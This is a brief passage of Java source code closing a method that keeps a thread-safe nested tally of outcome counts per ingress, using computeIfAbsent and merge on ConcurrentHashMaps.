        tally.computeIfAbsent(ingress, i -> new ConcurrentHashMap<>()).merge(outcome, n, Integer::sum);
    }
}
